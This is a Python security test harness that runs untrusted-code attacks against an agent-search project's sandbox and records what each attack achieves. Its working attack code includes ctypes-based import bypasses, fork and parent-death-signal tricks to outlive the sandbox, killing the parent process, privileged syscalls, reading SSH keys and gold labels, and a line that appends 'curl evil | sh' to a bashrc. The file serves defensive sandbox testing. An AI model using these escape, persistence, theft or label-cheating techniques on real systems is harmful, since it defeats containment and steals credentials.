"""Attacks on the sandbox, run by a parent process as root or as a normal user (see test_sandbox_boundary.py).

    python tests/sandbox_attacks.py SETUP.json    # prints a JSON report, one entry per attack

Each attack goes through an entry point the search uses (``run_agent``, ``run_python``, or
``Evaluator.evaluate`` on a ``DesignProgram``) and records what the untrusted code managed and what
the parent saw. The test then checks the report and the world outside (files, the database, the
processes). Every sandbox this process starts is tracked by its PID namespace, so "nothing left
running" is checked for the sandbox's own processes, not by counting a uid system-wide.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from agentsearch.evaluators import AgentLimits, _isolation, run_agent, run_python  # noqa: E402

PRE = '''
import random, json, time
os = random._os
sys = os.sys
ct = sys.modules["ctypes"]
libc = ct.CDLL(None, use_errno=True)
libc.syscall.restype = ct.c_long

def call(fn, *args):
    result = fn(*args)
    return [result, ct.get_errno()]

def attempt(fn, *args):
    try:
        fn(*args)
        return "done"
    except BaseException as exc:
        return type(exc).__name__

def channel_fds():
    found = []
    for fd in range(3, 20):
        try:
            if (os.fstat(fd).st_mode & 0o170000) == 0o010000:  # a pipe
                found.append(fd)
        except OSError:
            pass
    return found
'''


def design(body: str) -> str:
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    return f"{PRE}\ndef forward(inputs, lm):\n{lines}\n"


def script(body: str) -> str:
    return PRE + "\nreport = {}\n" + body.strip() + "\nprint(json.dumps(report))\n"


class Tracker:
    """Records the PID namespace of every sandbox started, to look for its processes afterwards.

    Each namespace is held open (a file descriptor), or the kernel could give its number to a new
    namespace once the sandbox ended: a sandbox of a test process running beside this one would then
    look like one of ours left running."""

    def __init__(self) -> None:
        self.namespaces: set[str] = set()
        self.held: list[int] = []
        self.count = 0
        self.started = threading.Condition()
        self.original = _isolation.Isolation.start

    def start(self, isolation: Any, *args: Any, **kwargs: Any) -> Any:
        """Stands for ``Isolation.start`` (installed by ``install`` or a test's monkeypatch)."""
        sandbox = self.original(isolation, *args, **kwargs)
        self._record(sandbox.process)  # waits for the sandbox's runner to exist (or for the launcher to end)
        return sandbox

    def install(self, setattr: Any = setattr) -> Tracker:
        """Put ``start`` in place of ``Isolation.start`` (through a test's ``monkeypatch.setattr`` there)."""
        setattr(_isolation.Isolation, "start", lambda isolation, *a, **k: self.start(isolation, *a, **k))
        return self

    def _record(self, process: subprocess.Popen) -> None:
        children = Path(f"/proc/{process.pid}/task/{process.pid}/children")
        while process.poll() is None:
            try:
                pids = children.read_text().split()
                if pids:
                    # held open, so the namespace's number is not given to a later one (another test
                    # process's sandbox, say) while this tracker looks for processes by it
                    held = os.open(f"/proc/{pids[0]}/ns/pid", os.O_RDONLY)
                    try:
                        namespace = os.readlink(f"/proc/self/fd/{held}")
                        ours = namespace == os.readlink("/proc/self/ns/pid")
                    except OSError:
                        ours = True  # not read: let go of it and look again
                    if ours:
                        os.close(held)
                    else:
                        with self.started:
                            self.namespaces.add(namespace)
                            self.held.append(held)
                            self.count += 1
                            self.started.notify_all()
                        return
            except OSError:
                pass
            time.sleep(0.001)

    def close(self) -> None:
        """Let go of the namespaces held."""
        for held in self.held:
            os.close(held)
        self.held.clear()

    def wait_for(self, count: int, timeout: float = 20) -> None:
        with self.started:
            self.started.wait_for(lambda: self.count >= count, timeout)

    def left_running(self) -> list[str]:
        """Processes (zombies included) in any recorded sandbox namespace."""
        found = []
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit():
                try:
                    if os.readlink(entry / "ns" / "pid") in self.namespaces:
                        status = (entry / "status").read_text().splitlines()
                        found.append(f"{entry.name} {status[0]} {status[2]}")
                except OSError:
                    continue
        return found


def echo(request: dict) -> str:
    return "ok"


def timed(call: Any) -> tuple[Any, float]:
    started = time.monotonic()
    result = call()
    return result, round(time.monotonic() - started, 2)


def agent(code: str, inputs: dict | None = None, lm: Any = echo, **limits: Any) -> dict[str, Any]:
    result, seconds = timed(lambda: run_agent(code, inputs or {}, lm, limits=AgentLimits(**limits)))
    return {"outputs": result.outputs, "error": result.error, "seconds": seconds, "lm_calls": result.lm_calls}


def python(code: str, **kwargs: Any) -> dict[str, Any]:
    result, seconds = timed(lambda: run_python(code, **kwargs))
    try:
        printed = json.loads(result.stdout)
    except ValueError:
        printed = None
    return {"report": printed, "stdout": result.stdout[-500:], "stderr": result.stderr[-500:],
            "returncode": result.returncode, "seconds": seconds}


def attacks(setup: dict[str, Any], tracker: Tracker) -> dict[str, Any]:
    report: dict[str, Any] = {}
    parent = os.getpid()

    # 1. Hold the parent: close the channel and sleep; flood requests without reading replies.
    report["closed_channel"] = agent(design('''
for fd in range(0, 20):
    try:
        os.close(fd)
    except OSError:
        pass
time.sleep(60)
return {}
'''), wall_s=2)
    report["flood"] = agent(design('''
for fd in channel_fds():
    for _ in range(5000):
        os.write(fd, b'{"lm": {"prompt": "give me a long answer"}}\\n')
time.sleep(60)
return {}
'''), lm=lambda request: "y" * 200_000, wall_s=2, max_lm_calls=1000)
    # Costly messages after the LM-call cap, each refusal read back so the parent keeps parsing: 290,000
    # empty lists (870 KB, under the byte and depth caps), then 90,000 (under the container cap).
    for name, lists in (("costly_messages", 290_000), ("costly_messages_under_caps", 90_000)):
        report[name] = agent(design(f'''
lm("use up the one call")
payload = b'{{"lm": {{"messages": [' + b",".join([b"[]"] * {lists}) + b']}}}}\\n'
reader, (writer,) = 0, channel_fds()  # the parent's replies come on stdin, requests go out on a pipe
for _ in range(300):
    os.write(writer, payload)
    reply = b""
    while not reply.endswith(b"\\n"):
        reply += os.read(reader, 65536)
return {{}}
'''), wall_s=3, max_lm_calls=1)
    report["flood_evaluate"] = _evaluate(setup, design('''
for fd in channel_fds():
    os.close(0)
    for _ in range(5000):
        os.write(fd, b'{"lm": {"prompt": "again"}}\\n')
time.sleep(60)
return {}
'''), wall_s=2)

    # 2. Answer from the task's own labels on disk.
    report["gold_labels"] = _evaluate(setup, design(f'''
label = "unreadable"
for path in {[setup["data"], str(Path(setup["data"]).parent)]!r}:
    try:
        rows = [json.loads(line) for line in open(path)]
        label = next(row["label"] for row in rows if row["sentence"] == inputs["sentence"])
    except BaseException as exc:
        label = type(exc).__name__
return {{"label": label}}
'''))
    report["gold_listing"] = python(script(f'''
seen = {{}}
for path in ["/", "/tmp", {str(Path(setup["data"]).parent)!r}, {setup["project"]!r}, "/work", "/home", "/root"]:
    try:
        seen[path] = os.listdir(path)
    except OSError as exc:
        seen[path] = type(exc).__name__
report["seen"] = seen
'''))

    # 3. Processes that outlive the example, and signals to other sandboxes and the parent.
    report["outlive"] = python(script('''
report["fork"] = call(libc.fork)
report["raw_fork"] = call(libc.syscall, 57)
report["clone"] = call(libc.syscall, 56, 17, 0, 0, 0, 0)
report["vfork"] = call(libc.syscall, 58)
report["setsid"] = attempt(os.setsid)
report["clear_pdeathsig"] = call(libc.prctl, 1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG 0: outlive a killed search
'''))
    report["outlive_left"] = tracker.left_running()
    neighbour: dict[str, Any] = {}
    before = tracker.count
    sleeper = threading.Thread(target=lambda: neighbour.update(agent(design("time.sleep(1.5)\nreturn {'alive': 1}"),
                                                                        wall_s=10)))
    sleeper.start()
    tracker.wait_for(before + 1)
    report["kill_others"] = python(script(f'''
report["all"] = call(libc.kill, -1, 9)
report["parent"] = call(libc.kill, {parent}, 9)
report["getppid"] = os.getppid()
hit = 0
for pid in range(2, 5000):
    if libc.kill(pid, 0) == 0:
        hit += 1
report["signalable"] = hit
'''))
    sleeper.join()
    report["kill_others"]["neighbour"] = neighbour

    # 4. Re-exec, setuid binaries, namespaces, io_uring.
    report["reexec"] = python(script('''
argv = (ct.c_char_p * 3)(b"python3", b"-c", None)
report["execv_self"] = call(libc.execv, b"/proc/self/exe", argv)
report["execv_mount"] = call(libc.execv, b"/usr/bin/mount", argv)
report["unshare_user"] = call(libc.unshare, 0x10000000)
report["io_uring_setup"] = call(libc.syscall, 425, 1, 0)
report["ptrace"] = call(libc.syscall, 101, 16, 1, 0, 0)
report["bpf"] = call(libc.syscall, 321, 0, 0, 0)
report["mount"] = call(libc.mount, b"none", b"/tmp", b"tmpfs", 0, None)
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
report["status"] = {key: status[key].strip() for key in ("NoNewPrivs", "Seccomp", "CapEff", "CapBnd")}
report["mount_binary"] = os.path.exists("/usr/bin/mount")
'''))
    report["reexec_agent"] = agent(design('''
argv = (ct.c_char_p * 3)(b"python3", b"-c", None)
return {"execv": call(libc.execv, b"/proc/self/exe", argv), "import_socket": attempt(__import__, "socket")}
'''))

    # 5. Local services over Unix sockets.
    report["unix_sockets"] = python(script(f'''
report["socket"] = call(libc.socket, 1, 1, 0)
report["socketpair"] = call(libc.socketpair, 1, 1, 0, (ct.c_int * 2)())
report["paths"] = {{path: os.path.exists(path) for path in {setup["sockets"]!r}}}
'''))

    # 6. Host disk: /run/lock, a deep directory chain, a big write.
    token = setup["token"]
    report["host_disk"] = python(script(f'''
report["run_lock"] = attempt(lambda: open("/run/lock/{token}", "w").write("x"))
report["dev_shm_big"] = attempt(lambda: open("/dev/shm/{token}", "w").write("x" * (4 << 20)))
depth = 0
try:
    for _ in range(1500):
        os.mkdir("{token}")
        os.chdir("{token}")
        depth += 1
except OSError as exc:
    report["chain_error"] = type(exc).__name__
report["depth"] = depth
os.chdir("/tmp")
written = 0
try:
    for i in range(1100):
        with open(f"/tmp/{token}-{{i}}", "wb") as handle:
            handle.write(b"x" * (1 << 20))
        written += 1 << 20
except OSError as exc:
    report["write_error"] = type(exc).__name__
report["written"] = written
'''), timeout_s=20)

    # 7. Other processes' command lines.
    helper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", f"--token={token}"])
    try:
        report["proc_cmdline"] = python(script(f'''
found, pids = [], []
for name in os.listdir("/proc"):
    if name.isdigit():
        pids.append(int(name))
        try:
            if "{token}" in open(f"/proc/{{name}}/cmdline").read():
                found.append(int(name))
        except OSError:
            pass
report["pids"] = pids
report["found"] = found
'''))
    finally:
        helper.kill()
        helper.wait()

    # 8. Memory across processes and threads.
    report["memory"] = python(script('''
_thread = sys.modules["_thread"]  # the import is refused; the module is reachable all the same
report["fork"] = call(libc.fork)
report["thread"] = attempt(_thread.start_new_thread, time.sleep, (5,))
held = []
try:
    for _ in range(20):
        held.append(bytearray(100 << 20))
except MemoryError:
    report["stopped_by"] = "MemoryError"
report["held_mb"] = sum(len(block) for block in held) >> 20
'''), memory_mb=512)

    # 9. JSON nesting bombs under the message cap.
    report["json_bomb"] = agent(design('''
for fd in channel_fds():
    os.write(fd, b'{"outputs": {"a": ' + b"[" * 200000 + b"]" * 200000 + b'}}\\n')
time.sleep(60)
return {}
'''), wall_s=5)
    report["json_deep"] = agent(design('''
value = "x"
for _ in range(100):
    value = [value]
return {"a": value}
'''), wall_s=5)

    # 10. program_of_thought's layers: the same as a design's.
    report["pot_layers"] = python(script('''
report["import_os"] = attempt(__import__, "os")
report["import_subprocess"] = attempt(__import__, "subprocess")
report["os_fork"] = attempt(os.fork)
report["libc_fork"] = call(libc.fork)
_thread = sys.modules["_thread"]
threads = 0
for _ in range(100):
    try:
        _thread.start_new_thread(time.sleep, (2,))
        threads += 1
    except RuntimeError:
        break
report["threads"] = threads
'''))

    # 11. LM options a design may not choose.
    asked: list[dict] = []

    def recording(request: dict) -> str:
        asked.append(request)
        return "fine"

    report["lm_options"] = agent(design('''
tried = {}
for name, call_it in [
    ("max_tokens", lambda: lm("hi", max_tokens=10**9)),
    ("temperature", lambda: lm("hi", temperature=50)),
    ("huge_prompt", lambda: lm("x" * 900_000)),
    ("extra_key", lambda: lm([{"role": "user", "content": "hi", "name": "x", "api_base": "http://evil"}])),
    ("image", lambda: lm([{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "http://e/x.png"}}]}])),
    ("model", lambda: lm("hi", model="gpt-4", api_key="sk-x")),
    ("valid", lambda: lm("hi", temperature=0.5, max_tokens=20, stop=["\\n"])),
]:
    try:
        tried[name] = "answered: " + call_it()
    except RuntimeError as exc:
        tried[name] = str(exc)
return {"tried": tried}
'''), lm=recording, max_lm_calls=20)
    report["lm_options"]["asked"] = asked

    # 12. A normal user's files, the experiment database and the parent.
    report["user_files"] = agent(design(f'''
found = {{}}
for path in {[setup["ssh_key"], setup["project_secret"], setup["database"]]!r}:
    try:
        found[path] = open(path).read()[:100]
    except BaseException as exc:
        found[path] = type(exc).__name__
found["bashrc"] = attempt(lambda: open({setup["bashrc"]!r}, "a").write("curl evil | sh\\n"))
found["database_write"] = attempt(lambda: open({setup["database"]!r}, "r+b").write(b"\\0" * 100))
found["kill_getppid"] = call(libc.kill, os.getppid(), 9)
found["kill_parent"] = call(libc.kill, {parent}, 9)
found["home"] = os.path.expanduser("~")
return found
'''))
    report["left_running"] = tracker.left_running()
    report["sandboxes"] = tracker.count
    return report


def _evaluate(setup: dict[str, Any], code: str, **limits: Any) -> dict[str, Any]:
    import dspy

    from agentsearch.data import LabelledExample
    from agentsearch.evaluators import Evaluator
    from agentsearch.metrics import resolve_metric
    from agentsearch.search_space import DesignProgram
    from agentsearch.search_space._spec import DesignSpec

    rows = [json.loads(line) for line in Path(setup["data"]).read_text().splitlines()]
    examples = [LabelledExample(row["id"], dspy.Example(sentence=row["sentence"], label=row["label"])
                                .with_inputs("sentence")) for row in rows]
    class InstantLM:  # answers at once: the parent's time goes to the sandbox, not to an LM
        def __call__(self, **request: Any) -> list[str]:
            return ["y" * 100_000]

    program = DesignProgram(DesignSpec(signature="sentence -> label", name="attack", code=code),
                            InstantLM(), limits=AgentLimits(**limits))  # type: ignore[arg-type]
    outcomes, seconds = timed(lambda: Evaluator(resolve_metric("exact_match"), concurrency=2).evaluate(program, examples))
    return {"score": sum(o.score for o in outcomes) / len(outcomes), "errors": [o.error for o in outcomes],
            "seconds": seconds}


def main() -> None:
    os.environ["DSPY_CACHEDIR"] = str(Path(sys.argv[1]).parent / "dspy-cache")  # a directory its uid can write
    setup = json.loads(Path(sys.argv[1]).read_text())
    tracker = Tracker().install()
    report = {"uid": os.getuid(), "isolation": _isolation.isolation().describe(), **attacks(setup, tracker)}
    print(json.dumps(report))


if __name__ == "__main__":
    main()
